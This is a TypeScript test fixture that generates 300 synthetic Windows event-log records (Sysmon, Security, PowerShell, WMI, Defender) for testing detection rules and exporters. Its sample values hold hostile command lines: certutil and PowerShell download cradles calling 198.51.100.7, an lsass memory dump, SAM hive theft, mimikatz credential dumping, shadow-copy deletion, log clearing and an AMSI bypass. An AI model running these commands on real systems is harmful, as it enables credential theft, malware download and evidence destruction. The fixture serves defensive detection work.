/**
 * 300 events of our own: every EventID of Sysmon, Security, PowerShell (both channels), WMI, UserData, forwarded ones, and channels
 * with data without names. Values are such that rules match, and such that careless exporters break: quotes, markup, line ends,
 * empty, blanks at the end, umlauts, JSON and XML as text.
 */
import { nativeEvents } from '../../../src/lint/knowledge/native-events.ts';
import { AUDIT_FIELDS, SYSMON_FIELDS } from './fields.ts';
import type { Datum, LoggedEvent } from './logged-event.ts';
import { messageOf } from './messages.ts';

const GUID = '{5770385F-C22A-43E0-BF4C-06F5698FFBD9}';
const SYSTEM32 = 'C:\\Windows\\System32\\';

/** Image, command line, parent, original file name. */
type Start = readonly [image: string, commandLine: string, parent: string, original: string];
const start = (program: string, commandLine: string, original = program, parent = 'cmd.exe'): Start => [
  program.includes(':') ? program : SYSTEM32 + program,
  commandLine,
  parent.includes(':') ? parent : SYSTEM32 + parent,
  original,
];
const DOWNLOAD = 'certutil.exe -urlcache -split -f http://198.51.100.7/a.exe "C:\\Users\\Public\\a b.exe"';
const HIDDEN = 'powershell -nop -w hidden -enc SQBFAFgA -c "IEX (New-Object Net.WebClient).DownloadString(\'http://x\')"';
const SCRIPT = 'mshta.exe javascript:a=GetObject("script:http://x/{\\"a\\":1}");';
const WMIC = "wmic /node:10.0.0.2 process call create 'cmd.exe /c whoami;ipconfig,x'";
const MIMIKATZ = 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit';

const STARTS: readonly Start[] = [
  start('certutil.exe', DOWNLOAD, 'CertUtil.exe'),
  start('WindowsPowerShell\\v1.0\\powershell.exe', HIDDEN, 'PowerShell.EXE', 'WINWORD.EXE'),
  start('whoami.exe', 'whoami /all', 'whoami.exe', 'services.exe'),
  start('vssadmin.exe', 'vssadmin delete shadows /all /quiet', 'VSSADMIN.EXE'),
  start('rundll32.exe', `rundll32.exe ${SYSTEM32}comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full`, 'RUNDLL32.EXE'),
  start('reg.exe', 'reg save HKLM\\SAM C:\\temp\\sam.hiv'),
  start('schtasks.exe', 'schtasks /create /tn "Größe" /tr C:\\ü.exe /sc onlogon /ru SYSTEM'),
  start('net.exe', 'net user adm P@ss<1>&"2" /add & net localgroup Administrators adm /add'),
  start('mshta.exe', SCRIPT, 'MSHTA.EXE', 'C:\\Program Files\\Microsoft Office\\EXCEL.EXE'),
  start('wbem\\WMIC.exe', WMIC, 'wmic.exe'),
  start('regsvr32.exe', 'regsvr32 /s /n /u /i:http://x/file.sct scrobj.dll', 'REGSVR32.EXE'),
  start('bitsadmin.exe', 'bitsadmin /transfer n http://198.51.100.7/x C:\\temp\\x.exe'),
  start('wevtutil.exe', 'wevtutil cl Security'),
  start('nltest.exe', 'nltest /domain_trusts', 'nltestrk.exe'),
  start('C:\\Users\\bob\\mimikatz.exe', MIMIKATZ, 'mimikatz.exe'),
  start('C:\\Tools\\PsExec64.exe', 'PsExec64.exe -accepteula -s \\\\dc cmd', 'psexec.c'),
  start('svchost.exe', `${SYSTEM32}svchost.exe -k netsvcs`, 'svchost.exe', 'C:\\Users\\bob\\x.exe'),
  start('notepad.exe', '', '-', 'explorer.exe'),
];

/** Values of a field, by turns. Fields without values of their own get one from their name. */
const VALUES: Readonly<Record<string, readonly string[]>> = {
  User: ['PC1\\bob', 'NT AUTHORITY\\SYSTEM', 'CORP\\Jürgen'],
  RuleName: ['-', '', 'technique_id=T1059,technique_name=x'],
  UtcTime: ['2024-03-05 09:06:22.440'],
  IntegrityLevel: ['High', 'System', 'Medium'],
  Hashes: [
    'SHA1=BA4C6C0A3A2B5F2A8F3E0F5D7D0B4F6C5E9A1B2C,MD5=2B4C6C0A3A2B5F2A8F3E0F5D7D0B4F6C,SHA256=DA4C6C0A3A2B5F2A8F3E0F5D7D0B4F6C5E9A1B2CDA4C6C0A3A2B5F2A8F3E0F5D,IMPHASH=A37A8C0A3A2B5F2A8F3E0F5D7D0B4F6C',
  ],
  Hash: ['Unknown', 'MD5=2B4C6C0A3A2B5F2A8F3E0F5D7D0B4F6C'],
  LogonId: ['0x3e7', '0x5f3a1'],
  Image: [
    `${SYSTEM32}rundll32.exe`,
    `${SYSTEM32}WindowsPowerShell\\v1.0\\powershell.exe`,
    'C:\\Users\\bob\\AppData\\Local\\Temp\\ä.exe',
  ],
  SourceImage: ['C:\\Users\\bob\\mimikatz.exe', `${SYSTEM32}rundll32.exe`],
  TargetImage: [`${SYSTEM32}lsass.exe`, `${SYSTEM32}notepad.exe`],
  GrantedAccess: ['0x1410', '0x1fffff', '0x1000'],
  CallTrace: [
    'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|UNKNOWN(000001A2B3C4D5E6)',
    '-',
  ],
  StartModule: ['', `${SYSTEM32}kernel32.dll`],
  StartFunction: ['LoadLibraryA', ''],
  StartAddress: ['0x000001F2A3B40000'],
  TargetFilename: [
    'C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.bat',
    'C:\\Windows\\NTDS\\ntds.dit',
    'C:\\temp\\lsass.dmp',
    'C:\\a.iso:Zone.Identifier',
  ],
  TargetObject: [
    'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Übel',
    'HKU\\S-1-5-21-1-2-3-1001\\Software\\Classes\\ms-settings\\shell\\open\\command\\DelegateExecute',
    'HKLM\\System\\CurrentControlSet\\Control\\Lsa\\RunAsPPL',
  ],
  Details: ['C:\\Users\\Public\\x.exe', 'DWORD (0x00000001)', 'QWORD (0x00000001-0x00000002)', 'Binary Data'],
  ImageLoaded: ['C:\\Users\\bob\\AppData\\Local\\Temp\\vaultcli.dll', `${SYSTEM32}samlib.dll`, 'C:\\temp\\RTCore64.sys'],
  Signed: ['false', 'true'],
  SignatureStatus: ['Unavailable', 'Valid', 'Expired'],
  Signature: ['-', 'Microsoft Windows'],
  PipeName: ['\\lsass', '\\PSEXESVC', '\\MSSE-1234-server', '\\postex_ssh_1'],
  QueryName: ['api.telegram.org', 'pastebin.com', 'host.example'],
  QueryResults: ['::ffff:198.51.100.7;', 'type:  5 edge.example;2001:db8::1;', '-'],
  QueryStatus: ['0', '9003'],
  DestinationIp: ['198.51.100.7', '10.0.0.2', '2001:db8:0:0:0:0:0:1'],
  DestinationPort: ['4444', '3389', '88', '445'],
  SourceIp: ['10.0.0.1'],
  SourcePort: ['50123'],
  Protocol: ['tcp', 'udp'],
  Initiated: ['true', 'false'],
  SourceIsIpv6: ['false'],
  DestinationIsIpv6: ['false', 'false', 'true'],
  EventNamespace: ['"root\\\\cimv2"'],
  Operation: ['Created'],
  Query: [
    '"SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA \'Win32_PerfFormattedData_PerfOS_System\'"',
  ],
  Destination: ['"C:\\\\temp\\\\x.exe"', '"powershell.exe -nop -c \\"IEX(\'x\')\\""'],
  Contents: ['', '[ZoneTransfer]  ZoneId=3  HostUrl=http://x/a.exe'],
  LogonType: ['10', '3', '9', '2'],
  LogonProcessName: ['NtLmSsp ', 'Advapi  ', 'User32 ', 'seclogo'],
  AuthenticationPackageName: ['NTLM', 'Negotiate'],
  LmPackageName: ['NTLM V1', '-'],
  KeyLength: ['0', '128'],
  IpAddress: ['10.0.0.9', '::1', '-', '203.0.113.5'],
  IpPort: ['0', '51515'],
  WorkstationName: ['KALI', '-', ''],
  TargetUserName: ['Administrator', 'PC1$', 'bob', 'ANONYMOUS LOGON'],
  TargetUserSid: ['S-1-5-18', 'S-1-0-0', 'S-1-5-7'],
  TargetSid: ['S-1-5-32-544', 'S-1-5-21-1-2-3-512'],
  MemberSid: ['S-1-5-21-1-2-3-1001'],
  MemberName: ['-', 'CN=bob,CN=Users,DC=corp'],
  SubjectUserSid: ['S-1-5-21-1-2-3-1001', 'S-1-5-18'],
  SubjectUserName: ['bob', 'PC1$'],
  SubjectDomainName: ['CORP'],
  SubjectLogonId: ['0x3e7', '0x5f3a1'],
  TargetLogonId: ['0x5f3a1'],
  Status: ['0xc000006d', '0x0', '0x18'],
  SubStatus: ['0xc000006a', '0xc0000064'],
  FailureReason: ['%%2313'],
  TicketEncryptionType: ['0x17', '0x12', '0x3'],
  TicketOptions: ['0x40810000'],
  ServiceName: ['PSEXESVC', 'krbtgt', 'svc-sql$', 'Übertragung'],
  ServiceFileName: ['%COMSPEC% /C start /b "C:\\\\x.exe" & echo <x>', '%SystemRoot%\\PSEXESVC.exe'],
  ServiceType: ['0x10'],
  ServiceStartType: ['3'],
  ServiceAccount: ['LocalSystem'],
  TaskContent: [
    '<?xml version="1.0" encoding="UTF-16"?>\r\n<Task version="1.2">\r\n  <Actions><Exec><Command>C:\\Users\\Public\\x.exe</Command></Exec></Actions>\r\n</Task>',
  ],
  TaskName: ['\\Microsoft\\Windows\\x', '\\evil'],
  ObjectName: ['\\Device\\HarddiskVolume1\\Windows\\System32\\lsass.exe', '\\REGISTRY\\MACHINE\\SAM', 'DC=corp'],
  ObjectType: ['Process', 'Key', 'File', '%{19195a5b-6da0-11d0-afd3-00c04fd930c9}'],
  ObjectServer: ['Security', 'DS', 'SC Manager'],
  AccessMask: ['0x1410', '0x100', '0x2'],
  AccessList: ['%%4416\r\n\t\t\t\t%%4417\r\n\t\t\t\t', '%%1537'],
  Properties: ['%%7688\r\n\t\t{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}\r\n', '---'],
  ShareName: ['\\\\*\\IPC$', '\\\\*\\ADMIN$', '\\\\*\\C$'],
  RelativeTargetName: ['svcctl', 'atsvc', 'PSEXESVC-x-stdin', 'spoolss'],
  ShareLocalPath: ['', '\\??\\C:\\Windows'],
  PrivilegeList: ['SeDebugPrivilege\r\n\t\t\tSeTcbPrivilege', '-'],
  NewUacValue: ['0x15'],
  OldUacValue: ['0x11'],
  UserAccountControl: ['\r\n\t\t%%2080\r\n\t\t%%2082'],
  AttributeLDAPDisplayName: ['servicePrincipalName', 'ntSecurityDescriptor'],
  AttributeValue: ['1131f6ad', 'O:DAG:DAD:'],
  OperationType: ['%%14674', '%%1904'],
  AuditPolicyChanges: ['%%8448, %%8450'],
  SubcategoryGuid: ['{0CCE9226-69AE-11D9-BED3-505054503030}'],
  OldTargetUserName: ['PC1$'],
  NewTargetUserName: ['DC1'],
  DestPort: ['3389', '445'],
  SourceAddress: ['127.0.0.1'],
  DestAddress: ['127.0.0.1'],
  Application: ['\\device\\harddiskvolume1\\users\\bob\\x.exe'],
  DeviceDescription: ['USB-Stick "ü"'],
  NewProcessName: [`${SYSTEM32}cmd.exe`],
  ProcessName: [`${SYSTEM32}svchost.exe`, '-', 'C:\\Users\\bob\\x.exe'],
  Configuration: ['C:\\sysmon.xml'],
  State: ['Stopped', 'Started'],
  EventType: ['SetValue'],
  Device: ['\\Device\\HarddiskVolume2'],
  Description: ['-', 'Say "hi", <b>ok</b> & go; {"a":[1,2]}'],
  Company: ['Microsoft Corporation', ''],
  ParentCommandLine: ['"C:\\Windows\\System32\\cmd.exe" /c "x & y"', 'a,b;c\td'],
};

const EVENT_TYPES: Readonly<Record<number, string>> = {
  12: 'CreateKey',
  14: 'RenameKey',
  17: 'CreatePipe',
  18: 'ConnectPipe',
  19: 'WmiFilterEvent',
  20: 'WmiConsumerEvent',
  21: 'WmiBindingEvent',
};

/** Numbers of processes and handles, which the audit log writes in hexadecimal and Sysmon does not. */
function auditValue(name: string, turn: number): string {
  if (/ProcessId$|HandleId$|LinkedLogonId$/.test(name)) return `0x${(1000 + turn * 4).toString(16)}`;
  return valueFor(name, turn);
}

function valueFor(name: string, turn: number): string {
  const values = VALUES[name];
  if (values !== undefined) return values[turn % values.length]!;
  if (/guid$/i.test(name)) return `{365ABB72-0D1D-5CD7-0000-00102${(0xa0000 + turn).toString(16).toUpperCase()}00}`;
  if (/Time$/.test(name)) return `2024-03-05 08:00:${String(turn % 60).padStart(2, '0')}.125`;
  if (/(?:Id|ID|Pid)$/.test(name)) return String(1000 + turn * 4);
  return `${name} ${turn}`;
}

let made: LoggedEvent[] = [];

function add(
  channel: string,
  provider: string,
  id: number,
  data: readonly Datum[],
  more: Partial<LoggedEvent> & { readonly on?: string } = {},
): void {
  const n = made.length;
  const audit = channel === 'Security';
  const system: Record<string, string> = {
    Provider_Name: provider,
    Provider_Guid: GUID,
    EventID: String(id),
    Version: String(n % 6),
    Level: audit ? '0' : '4',
    Task: String(id % 100),
    Opcode: '0',
    Keywords: audit ? (id === 4625 ? '0x8010000000000000' : '0x8020000000000000') : '0x8000000000000000',
    TimeCreated_SystemTime: new Date(Date.UTC(2024, 2, 5, 9, 0, n))
      .toISOString()
      .replace(/\.\d+Z$/, `.${String(1234560 + n).padStart(7, '0')}Z`),
    EventRecordID: String(70_000 + n),
    Execution_ProcessID: String(4 + n * 4),
    Execution_ThreadID: String(8 + n * 4),
    Channel: channel,
    Computer: more.on ?? (n % 3 === 0 ? 'PC1' : 'PC2.corp.example'),
    Security_UserID: 'S-1-5-18',
  };
  const event = { system, wrapper: more.wrapper ?? '', data, message: '' };
  made.push({ ...event, message: more.message ?? messageOf(event) });
}

const named = (fields: readonly string[], turn: number, own: Readonly<Record<string, string>> = {}, value = valueFor): Datum[] =>
  fields.map((name) => [name, own[name] ?? value(name, turn)]);
const audited = (fields: readonly string[], turn: number, own?: Readonly<Record<string, string>>): Datum[] =>
  named(fields, turn, own, auditValue);
const SYSMON = ['Microsoft-Windows-Sysmon/Operational', 'Microsoft-Windows-Sysmon'] as const;
const AUDIT = ['Security', 'Microsoft-Windows-Security-Auditing'] as const;
const CLASSIC = ['Windows PowerShell', 'PowerShell'] as const;
const MODERN = ['Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell'] as const;
const WMI = ['Microsoft-Windows-WMI-Activity/Operational', 'Microsoft-Windows-WMI-Activity'] as const;
const TASKS = ['Microsoft-Windows-TaskScheduler/Operational', 'Microsoft-Windows-TaskScheduler'] as const;
const DEFENDER = ['Microsoft-Windows-Windows Defender/Operational', 'Microsoft-Windows-Windows Defender'] as const;

function sysmon(): void {
  for (const [turn, [Image, CommandLine, ParentImage, OriginalFileName]] of [...STARTS, ...STARTS].entries())
    add(
      ...SYSMON,
      1,
      named(SYSMON_FIELDS[1]!, turn, { Image, CommandLine, ParentImage, OriginalFileName }),
      turn > 30 ? { on: 'FWD1.corp.example' } : {},
    );
  for (const [id, fields] of Object.entries(SYSMON_FIELDS)) {
    const type = EVENT_TYPES[Number(id)];
    const own: Record<string, string> = type === undefined ? {} : { EventType: type };
    for (let turn = 0; id !== '1' && turn < 3; turn++) add(...SYSMON, Number(id), named(fields, turn, own));
  }
}

function audit(): void {
  for (const [turn, [image, line, parent]] of STARTS.entries())
    add(
      ...AUDIT,
      4688,
      audited(AUDIT_FIELDS[4688]!, turn, {
        NewProcessName: image,
        CommandLine: line,
        ParentProcessName: parent,
        NewProcessId: `0x${(turn * 44 + 16).toString(16)}`,
        ProcessId: '0x1a4',
      }),
    );
  for (const [id, fields] of Object.entries(AUDIT_FIELDS))
    if (id !== '4688') for (let turn = 0; turn < 2; turn++) add(...AUDIT, Number(id), audited(fields, turn));
  for (const id of [
    4720, 4738, 4741, 4768, 4769, 4771, 4776, 4778, 4781, 4794, 4964, 5136, 5156, 6416, 4662, 4663, 4656, 4670, 4673, 4698, 4702,
    4719,
  ])
    add(...AUDIT, id, audited(nativeEvents('security')!.get(id)!, id));
  const SUBJECT = ['SubjectUserSid', 'SubjectUserName', 'SubjectDomainName', 'SubjectLogonId'];
  add('Security', 'Microsoft-Windows-Eventlog', 1102, audited(SUBJECT, 0), { wrapper: 'LogFileCleared' });
  add('Security', 'Microsoft-Windows-Eventlog', 1100, [], { wrapper: 'ServiceShutdown' });
}

const ENGINE =
  '\tNewEngineState=Available\r\n\tPreviousEngineState=None\r\n\r\n\tSequenceNumber=13\r\n\r\n\tHostName=ConsoleHost\r\n\tHostVersion=2.0\r\n\tHostApplication=powershell -nop -enc SQBFAFgA\r\n\tEngineVersion=2.0\r\n\tRunspaceId=\r\n\tScriptName=\r\n\tCommandLine=';
const SCRIPTS = [
  'Invoke-Mimikatz -DumpCreds',
  '$a = "x"\r\nIEX (New-Object Net.WebClient).DownloadString(\'http://x\')\r\n<# <Event> & "ü" #>\r\n',
  'Get-ADUser -Filter * | ConvertTo-Json {"a":1}',
  "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')",
  '',
];

const fields = (values: Readonly<Record<string, string>>): Datum[] => Object.entries(values);
const withoutNames = (...values: string[]): Datum[] => values.map((value) => ['', value]);

function powershell(): void {
  for (const id of [400, 403, 600]) add(...CLASSIC, id, withoutNames('Available', 'None', ENGINE));
  const detail = '\tDetailSequence=1\r\n\tUserId=CORP\\bob';
  add(...CLASSIC, 800, withoutNames('Get-Item', detail, 'CommandInvocation(Get-Item): "Get-Item"\r\n'));
  const ContextInfo =
    '        Severity = Informational\r\n        Host Name = ConsoleHost\r\n        Host Application = powershell -nop -enc SQBFAFgA\r\n';
  const Payload =
    'CommandInvocation(Invoke-Mimikatz): "Invoke-Mimikatz"\r\nParameterBinding(Get-Item): name="Path"; value="C:\\"\r\n';
  add(...MODERN, 4103, fields({ ContextInfo, UserData: '', Payload }));
  const script = '50d2dbda-7361-4926-a94d-d9eadfdb43b';
  for (const [turn, ScriptBlockText] of SCRIPTS.entries()) {
    const block = { ScriptBlockText, ScriptBlockId: `${script}${turn}`, Path: turn === 0 ? 'C:\\x.ps1' : '' };
    add(...MODERN, 4104, fields({ MessageNumber: '1', MessageTotal: '1', ...block }));
  }
  for (const id of [4105, 4106]) add(...MODERN, id, fields({ ScriptBlockId: `${script}0`, RunspaceId: 'cb1b0c5b' }));
}

function wmiAndUserData(): void {
  const user = (source: readonly [string, string], id: number, wrapper: string, values: Readonly<Record<string, string>>) =>
    add(...source, id, fields(values), { wrapper });
  const ofChannel = (name: string, channel = 'Operational') => [`${name}/${channel}`, name] as const;
  const ProviderPath = '%systemroot%\\system32\\wbem\\cimwin32.dll';
  const provider = { ProviderName: 'CIMWin32', Code: '0x0', HostProcess: 'wmiprvse.exe', ProcessID: '624', ProviderPath };
  user(WMI, 5857, 'Operation_StartedOperational', provider);
  const Id = '{00000000-0000-0000-0000-000000000000}';
  const failure = { Id, ClientMachine: 'PC1', User: 'CORP\\bob', ResultCode: '0x80041032', PossibleCause: 'Unknown' };
  user(WMI, 5858, 'Operation_ClientFailure', failure);
  const Query = "SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName = 'x'";
  const ess = { NamespaceName: '//./root/CIMV2', Query, User: 'bob', Processid: '624', ClientMachine: 'PC1' };
  user(WMI, 5860, 'Operation_TemporaryEssStarted', { ...ess, PossibleCause: 'Temporary' });
  const PossibleCause =
    'instance of CommandLineEventConsumer\n{\n\tCommandLineTemplate = "powershell.exe -enc x";\n\tName = "evil";\n};\n';
  const binding = { Namespace: '//./ROOT/subscription', ESS: 'evil', CONSUMER: 'CommandLineEventConsumer="evil"', PossibleCause };
  user(WMI, 5861, 'Operation_ESStoConsumerBinding', binding);
  const cleared = { SubjectUserName: 'bob', SubjectDomainName: 'CORP', Channel: 'System', BackupPath: '' };
  user(['System', 'Microsoft-Windows-Eventlog'], 104, 'LogFileCleared', cleared);
  const session = { User: 'CORP\\bob', SessionID: '3', Address: '::%16777216' };
  user(ofChannel('Microsoft-Windows-TerminalServices-LocalSessionManager'), 21, 'EventXML', session);
  const printer = { Param1: 'Mimikatz Printer', Param2: 'Windows x64', Param3: 'mimilib.dll' };
  user(ofChannel('Microsoft-Windows-PrintService'), 316, 'PrinterDriverAdded', printer);
  const file = { PolicyName: 'EXE', FullFilePath: '%OSDRIVE%\\x.exe', Fqbn: '-' };
  user(ofChannel('Microsoft-Windows-AppLocker', 'EXE and DLL'), 8004, 'RuleAndFileData', file);
}

function others(): void {
  const services = ['System', 'Service Control Manager'] as const;
  const installed = (ServiceName: string, ImagePath: string): void => {
    const kind = { ServiceType: 'user mode service', StartType: 'demand start', AccountName: 'LocalSystem' };
    add(...services, 7045, fields({ ServiceName, ImagePath, ...kind }));
  };
  installed('PSEXESVC', '%SystemRoot%\\PSEXESVC.exe');
  installed('BTOBTO', '%COMSPEC% /C echo x ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 "<&>"');
  const Binary = '570069006E004400';
  add(...services, 7036, fields({ param1: 'Windows Defender Antivirus Service', param2: 'stopped', Binary }));
  const start = { param1: 'Windows Event Log', param2: 'auto start', param3: 'disabled', param4: 'EventLog' };
  add(...services, 7040, fields(start));
  const shutdown = withoutNames('C:\\Windows\\system32\\shutdown.exe (PC1)', 'PC1', 'x');
  add('System', 'User32', 1074, [...shutdown, ['Binary', '00000000']]);
  add('Application', 'Application Error', 1000, withoutNames('lsass.exe', '6.1.7601.17725', 'WDigest.dll', ''));
  add('Application', 'MsiInstaller', 1033, [...withoutNames('Tool "x"', '1.0', '1033'), ['Binary', '7B41']]);
  const reason = ' Reason: Password did not match <that> & "this".';
  add('Application', 'MSSQLSERVER', 18456, withoutNames('sa', reason, ' [CLIENT: 10.1.1.7]'));
  add('Application', 'ESENT', 325, withoutNames('ntdsutil', 'C:\\temp\\ntds.dit'));
  for (const [id, names] of Object.entries({
    106: 'TaskName UserContext',
    129: 'Path Priority ProcessID TaskName',
    140: 'TaskName UserName',
    141: 'TaskName UserName',
    200: 'ActionName EnginePID TaskInstanceId TaskName',
  }))
    add(...TASKS, Number(id), named(names.split(' '), 1));
  const threat =
    'Product Name,Product Version,Detection ID,Threat ID,Threat Name,Severity Name,Category Name,Source Name,Process Name,Path';
  const threatValue = (name: string): string =>
    ({ 'Threat Name': 'HackTool:Win32/Mimikatz.D', 'Source Name': 'AMSI' })[name] ?? `${name} x`;
  for (const id of [1116, 1117]) add(...DEFENDER, id, named(threat.split(','), 0, {}, threatValue));
  const product = { 'Product Name': 'Microsoft Defender' };
  add(...DEFENDER, 5001, fields({ ...product, 'Product Version': '4.18' }));
  const excluded = 'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\ = 0x0';
  add(...DEFENDER, 5007, fields({ ...product, 'Old Value': '', 'New Value': excluded }));
  const job = { User: 'CORP\\bob', jobTitle: 'x', jobId: '{365ABB72-0D1D-5CD7-0000-001020EF1500}' };
  const names = { RemoteName: 'http://198.51.100.7/x.exe', LocalName: 'C:\\Users\\Public\\x.exe', processId: '624' };
  const bits = 'Microsoft-Windows-Bits-Client';
  add(`${bits}/Operational`, bits, 16403, fields({ ...job, ...names }));
  const rule = { RuleId: 'x', RuleName: 'Übel', ApplicationPath: 'C:\\Users\\Public\\x.exe', ModifyingApplication: 'C:\\x.exe' };
  const firewall = 'Microsoft-Windows-Windows Firewall With Advanced Security';
  add(`${firewall}/Firewall`, firewall, 2004, fields({ ...rule, Action: '3' }));
  const logon = { SChannelName: 'PC1', UserName: 'bob', DomainName: 'CORP', WorkstationName: 'KALI', SChannelType: '2' };
  add('Microsoft-Windows-NTLM/Operational', 'Microsoft-Windows-Security-Netlogon', 8004, fields(logon));
}

/** Always the same, and always 300. */
export function the300(): readonly LoggedEvent[] {
  made = [];
  sysmon();
  audit();
  powershell();
  wmiAndUserData();
  others();
  if (made.length > 300) throw new Error(`${made.length} events`);
  // What a collector got from other computers.
  for (let turn = 0; made.length < 300; turn++) {
    const [Image, CommandLine, ParentImage, OriginalFileName] = STARTS[turn % STARTS.length]!;
    add(...SYSMON, 1, named(SYSMON_FIELDS[1]!, turn + 1, { Image, CommandLine, ParentImage, OriginalFileName }), {
      on: `FWD${turn}.corp.example`,
    });
  }
  return made;
}
